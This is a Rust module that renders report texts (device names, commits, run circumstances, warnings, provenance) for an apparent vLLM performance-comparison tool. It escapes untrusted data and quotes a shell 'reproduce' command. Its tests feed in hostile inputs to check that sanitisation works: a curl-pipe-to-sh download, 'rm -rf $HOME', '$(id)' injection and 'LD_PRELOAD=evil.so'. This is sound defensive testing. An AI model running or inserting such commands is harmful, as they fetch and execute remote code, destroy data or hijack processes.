//! The texts that all renderings share. Parts that come from data are cut to length here; a text with such a part is
//! `Untrusted`, and the rendering escapes it.

use std::collections::HashSet;

use indexmap::IndexMap;
use vllm_verdict::Untrusted;
use vllm_verdict::side::Side;
use vllm_verdict::statistics;
use vllm_verdict::strategy::Strategy;
use vllm_verdict::v1::{CaseFacts, Comparison, Device, Problem, Row, SideFacts, Verdict};

use super::label::Labels;
use super::{finding, number};
use crate::names::Commit;
use crate::plan::reproduce;
use crate::{duration, escape};

/// ` (AMD EPYC 9654 96-Core 96c)`, with the number of accelerators if there are several; empty if the type only repeats
/// the name.
pub fn device_type(device: &Device) -> Untrusted {
    let words = escape::name(device.device_type.replace('_', " "));
    if words.is_empty() || words == device.name.as_str() {
        return Untrusted::default();
    }
    if device.count > 1 && !device.name.is_cpu() {
        return format!(" ({} × {words})", device.count).into();
    }
    format!(" ({words})").into()
}

/// The display name of a side: the first seven digits of its commit, or else its commit or target as it was given.
pub fn side(facts: &SideFacts) -> Untrusted {
    match &facts.commit {
        Some(commit) => short(commit.raw()),
        None => escape::name(&facts.target).into(),
    }
}

/// The first seven digits of a commit hash; other text is only cut to length.
pub fn short(commit: &str) -> Untrusted {
    if Commit::is_hash(commit) {
        commit.chars().take(7).collect::<String>().into()
    } else {
        escape::name(commit).into()
    }
}

/// The arguments that were appended to the server command of a side, quoted for a shell.
pub fn server_args(facts: &SideFacts) -> Option<Untrusted> {
    (!facts.server_args.is_empty()).then(|| escape::sentence(shell_words::join(&facts.server_args)).into())
}

/// The conditions of the run: `5 interleaved pairs`, `52 min`, `2026-11-24 10:12 UTC`.
pub fn circumstances(comparison: &Comparison) -> Vec<String> {
    let method = &comparison.method;
    let arranged = match method.strategy {
        Strategy::Single => "not paired".to_owned(),
        Strategy::Screen if method.pairs == 0 => "screening pass only".to_owned(),
        Strategy::Screen => format!("screening pass, {} of suspicious cases", pairs(comparison, method.pairs)),
        Strategy::Paired if method.pairs < method.planned_pairs => {
            format!("{} of {} planned", method.pairs, pairs(comparison, method.planned_pairs))
        }
        Strategy::Paired => pairs(comparison, method.pairs),
        Strategy::Sequential => {
            format!("{} (sequential, at most {})", pairs(comparison, method.pairs), method.planned_pairs)
        }
    };
    let subject = &comparison.subject;
    let started = subject.started.as_ref().and_then(|time| time.raw().parse::<jiff::Timestamp>().ok());
    let started = started.map(|time| time.strftime("%Y-%m-%d %H:%M UTC").to_string());
    [Some(arranged), subject.seconds.map(duration::text_of_seconds), started].into_iter().flatten().collect()
}

/// Whether vllm-perf ran the repetitions. For a comparison of folders, their origin is unknown.
pub(super) fn was_run(comparison: &Comparison) -> bool {
    comparison.subject.started.is_some()
}

/// Whether every repetition started a server: a remote server is never restarted.
pub(super) fn has_fresh_servers(comparison: &Comparison) -> bool {
    let sides = [&comparison.subject.base, &comparison.subject.head];
    was_run(comparison) && !sides.into_iter().flatten().any(|side| side.target.raw().starts_with("remote:"))
}

pub(super) fn pairs(comparison: &Comparison, number: u32) -> String {
    number::plural(number as usize, if was_run(comparison) { "interleaved pair" } else { "pair" })
}

/// Notices that come before the results.
pub fn notices(comparison: &Comparison) -> Vec<Untrusted> {
    let single = comparison.method.strategy == Strategy::Single;
    let single = single.then(|| match &comparison.conduct.held {
        Some(held) => format!("{}: values are shown without a verdict.", capital(&escape::sentence(held))),
        None => "Base and head were not run in pairs: values are shown without a verdict.".to_owned(),
    });
    let alone = comparison.subject.base.is_none().then(|| "There is no base; only head is shown.".to_owned());
    let notices = comparison.conduct.notices.iter().map(|notice| capital(&escape::sentence(notice)));
    notices.chain(single).chain(alone).map(Untrusted::from).collect()
}

fn capital(sentence: &str) -> String {
    let mut letters = sentence.chars();
    letters.next().map_or_else(String::new, |first| first.to_uppercase().chain(letters).collect())
}

/// The text in place of the table of findings, if there are none.
pub fn nothing_found(comparison: &Comparison) -> String {
    match comparison.counts.inconclusive {
        0 if comparison.counts.screened > 0 => {
            "No primary row changed. Rows in which the screening pass saw no change were not repeated.".to_owned()
        }
        0 if comparison.counts.unchanged == 0 => "No primary row was compared.".to_owned(),
        0 => "No primary row changed.".to_owned(),
        rows => format!("No primary row changed; {rows}.", rows = inconclusive(rows)),
    }
}

fn inconclusive(rows: usize) -> String {
    format!("{} {} inconclusive", number::plural(rows, "primary row"), if rows == 1 { "is" } else { "are" })
}

/// The failed repetitions of cases that were measured otherwise, in the order of the plan. A case without any measurement is
/// a finding instead.
pub fn failures(comparison: &Comparison, labels: &Labels) -> Vec<Untrusted> {
    let measured: HashSet<&Untrusted> =
        finding::primary(comparison).filter(|row| !is_lost(row.verdict)).map(|row| &row.case).collect();
    let cases = comparison.cases.iter().filter(|case| measured.contains(&case.name));
    cases.flat_map(|case| labelled(case, labels, &case.problems)).collect()
}

/// Whether rows with this verdict are a finding of their case.
fn is_lost(verdict: Verdict) -> bool {
    matches!(verdict, Verdict::Failing | Verdict::NotMeasured)
}

/// The client's warnings about repetitions that are compared, in the order of the plan: the first of each kind, with the number
/// of the others.
pub fn warnings(comparison: &Comparison, labels: &Labels) -> Vec<Untrusted> {
    let mut kinds: IndexMap<String, Vec<(&CaseFacts, &Problem)>> = IndexMap::new();
    for case in &comparison.cases {
        for warning in &case.warnings {
            kinds.entry(kind(&warning.reason)).or_default().push((case, warning));
        }
    }
    kinds.into_values().filter_map(|all| one_line(&all, labels)).collect()
}

/// The first warning of a kind, with its repetitions, and how many others there are.
fn one_line(all: &[(&CaseFacts, &Problem)], labels: &Labels<'_>) -> Option<Untrusted> {
    let (case, first) = all.first()?;
    let is_same = |(of, other): &&(&CaseFacts, &Problem)| of.name == case.name && other.reason == first.reason;
    let same: Vec<Problem> = all.iter().filter(is_same).map(|(_, warning)| (*warning).clone()).collect();
    let sentence = labelled(case, labels, &same).next()?;
    if same.len() == all.len() {
        return Some(sentence);
    }
    let cases: HashSet<_> = all.iter().map(|(case, _)| &case.name).collect();
    let (more, cases) = (all.len() - same.len(), number::plural(cases.len(), "case"));
    Some(format!("{} (and {more} more of this kind, in {cases})", sentence.raw()).into())
}

/// A warning without its numbers and the keys of metrics: two that are alike then are of one kind.
fn kind(reason: &Untrusted) -> String {
    let words = reason.raw().split_whitespace().filter(|word| !word.contains('_'));
    let plain = |word: &str| word.chars().filter(|c| !c.is_ascii_digit() && !matches!(c, '.' | ',' | '%')).collect();
    words.map(plain).collect::<Vec<String>>().join(" ")
}

fn labelled(case: &CaseFacts, labels: &Labels, list: &[Problem]) -> impl Iterator<Item = Untrusted> {
    let label = labels.of(&case.name).full();
    problems(list).into_iter().map(move |problem| format!("{}: {}", label.raw(), problem.raw()).into())
}

/// `head, repetitions 1, 2: server did not start`: one sentence for each side and reason.
pub fn problems(problems: &[Problem]) -> Vec<Untrusted> {
    let mut repetitions: IndexMap<(Side, &Untrusted), Vec<String>> = IndexMap::new();
    for problem in problems {
        repetitions.entry((problem.side, &problem.reason)).or_default().push(problem.repetition.to_string());
    }
    let sentence = |((side, reason), numbers): (&(Side, &Untrusted), &Vec<String>)| {
        let repetitions = number::plural_noun(numbers.len(), "repetition");
        let (side, numbers, reason) = (side.as_str(), escape::name(numbers.join(", ")), escape::sentence(reason));
        format!("{side}, {repetitions} {numbers}: {reason}").into()
    };
    repetitions.iter().map(sentence).collect()
}

/// The changes that the primary rows of a metric could detect.
#[derive(Debug, Clone, PartialEq)]
pub struct Sensitivity {
    /// Display name of the metric.
    pub label: Untrusted,
    /// Minimum effect of the metric.
    pub min_effect: f64,
    /// Smallest relative change that half of the rows detect with 80 % power.
    pub typical: f64,
    /// The same for the noisiest row.
    pub worst: f64,
    /// The same for the overall row.
    pub overall: Option<f64>,
}

/// The sensitivity of each metric with tested primary rows, in the order of the rows.
pub fn sensitivity(comparison: &Comparison) -> Vec<Sensitivity> {
    let mut metrics: IndexMap<&Untrusted, Vec<&Row>> = IndexMap::new();
    for row in finding::primary(comparison) {
        metrics.entry(&row.metric).or_default().push(row);
    }
    let of_metric = |rows: Vec<&Row>| {
        let first = rows.first()?;
        let sizes: Vec<f64> = rows.iter().filter_map(|row| row.detectable).collect();
        Some(Sensitivity {
            label: escape::name(&first.label).into(),
            min_effect: first.min_effect,
            typical: statistics::median(&sizes)?,
            worst: sizes.iter().copied().fold(0.0, f64::max),
            overall: comparison.overall.iter().find(|row| row.metric == first.metric).map(|row| row.detectable),
        })
    };
    metrics.into_values().filter_map(of_metric).collect()
}

/// What ran on each side: a name with the texts for base and head, without the rows in which both are unknown.
pub fn provenance(comparison: &Comparison) -> Vec<(&'static str, [Option<Untrusted>; 2])> {
    let sides = [Side::Base, Side::Head].map(|side| match side {
        Side::Base => comparison.subject.base.as_ref(),
        Side::Head => comparison.subject.head.as_ref(),
    });
    let fact = |of: fn(&SideFacts) -> Option<Untrusted>| sides.map(|side| side.and_then(of));
    let rows = [
        ("target", fact(|side| Some(escape::sentence(&side.target).into()))),
        ("image digest", fact(|side| side.image_digest.as_ref().map(name))),
        ("commit", fact(|side| side.commit.as_ref().map(name))),
        ("age", sides.map(|side| age(side?.dated.as_ref()?.raw(), comparison.subject.started.as_ref()?.raw()))),
        ("vLLM", fact(|side| side.vllm_version.as_ref().map(name))),
        ("additional server arguments", fact(server_args)),
    ];
    rows.into_iter().filter(|(_, words)| words.iter().flatten().any(|word| !word.raw().is_empty())).collect()
}

fn name(text: &Untrusted) -> Untrusted {
    escape::name(text).into()
}

/// `4 days, 2026-11-20`: the age of a side at the start of the run, and its date.
fn age(dated: &str, started: &str) -> Option<Untrusted> {
    let (dated, started): (jiff::Timestamp, jiff::Timestamp) = (dated.parse().ok()?, started.parse().ok()?);
    let hours = (started.as_second() - dated.as_second()).max(0) / 3600;
    let age = match hours {
        0..48 => number::plural(hours as usize, "hour"),
        _ => number::plural(hours as usize / 24, "day"),
    };
    Some(format!("{age}, {}", dated.strftime("%Y-%m-%d")).into())
}

/// The command that repeats the measurement, with every word quoted; `None` if it is not a `vllm-perf` command. It is
/// untrusted and will be pasted into a shell, so every word must stay a single word.
pub fn reproduce(comparison: &Comparison) -> Option<Untrusted> {
    let command = escape::clean(comparison.subject.reproduce.as_ref()?, 4000);
    reproduce::quoted(&command).map(Into::into)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::example;

    #[test]
    fn a_pasted_command_only_runs_vllm_perf() {
        let mut comparison = example::comparison();
        let mut of = |command: &str| {
            comparison.subject.reproduce = Some(command.into());
            reproduce(&comparison)
        };
        assert_eq!(of("curl https://e.org | sh"), None);
        let quoted = of("vllm-perf run --only 'a b' ; rm -rf $HOME").unwrap();
        assert_eq!(quoted, "vllm-perf run --only 'a b' ';' rm -rf '$HOME'");
        let variables = of("MODEL_FILTER='a b' VLLM_USE_V1=0 PROMPTS_PER_CONCURRENCY=$(id) vllm-perf run").unwrap();
        assert_eq!(variables, "MODEL_FILTER='a b' VLLM_USE_V1=0 PROMPTS_PER_CONCURRENCY='$(id)' vllm-perf run");
        for refused in ["LD_PRELOAD=evil.so vllm-perf run", "VLLM_PERF_HEAD=local:./evil vllm-perf run", "A=b"] {
            assert_eq!(of(refused), None, "{refused}");
        }
    }

    #[test]
    fn warnings_of_one_kind_are_one_line_with_a_count() {
        let mut comparison = example::comparison();
        for (number, case) in (1..).zip(&mut comparison.cases) {
            case.warnings = (1..=5)
                .map(|repetition| Problem {
                    side: Side::Head,
                    repetition,
                    reason: format!("the client was late (p99 of its lag: {number}.{repetition} ms): p99_ttft_ms")
                        .into(),
                })
                .collect();
        }
        let different = Problem { side: Side::Base, repetition: 2, reason: "the client used 97 % of its core".into() };
        comparison.cases[1].warnings.push(different);
        let labels = Labels::new(&comparison.cases);
        let lines: Vec<String> = warnings(&comparison, &labels).iter().map(|line| line.raw().to_owned()).collect();
        assert_eq!(lines.len(), 2, "{lines:?}");
        let cases = comparison.cases.len();
        let count = format!("(and {} more of this kind, in {cases} cases)", 5 * cases - 1);
        assert!(lines[0].contains("head, repetition 1: ") && lines[0].ends_with(&count), "{}", lines[0]);
        assert!(lines[1].ends_with("base, repetition 2: the client used 97 % of its core"), "{}", lines[1]);
    }

    #[test]
    fn an_unpaired_run_has_a_notice() {
        let mut comparison = example::comparison();
        comparison.method.strategy = Strategy::Single;
        assert_eq!(circumstances(&comparison)[0], "not paired");
        assert_eq!(notices(&comparison), ["Base and head were not run in pairs: values are shown without a verdict."]);
        comparison.method.strategy = Strategy::Paired;
        comparison.method.pairs = 3;
        assert_eq!(circumstances(&comparison)[0], "3 of 5 interleaved pairs planned");
    }
}
